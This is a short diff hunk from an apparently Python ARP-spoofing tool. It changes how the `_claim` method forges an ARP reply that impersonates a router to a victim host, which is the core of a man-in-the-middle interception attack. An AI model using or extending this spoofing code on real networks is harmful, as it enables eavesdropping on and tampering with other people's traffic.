@@ -63,7 +63,7 @@ class Path:
 
     def _claim(self, link: bytes) -> bytes:
         router = self.router.packed
-        arp = _ARP.pack(1, IPV4, 6, 4, _REPLY, link, router, self.victim_link, router)
+        arp = _ARP.pack(1, IPV4, 6, 4, _REPLY, link, router, link, router)
         return _LINK.pack(self.victim_link, self.link, ARP) + arp
 
     def forward(self, frame: bytes) -> bytes | None:
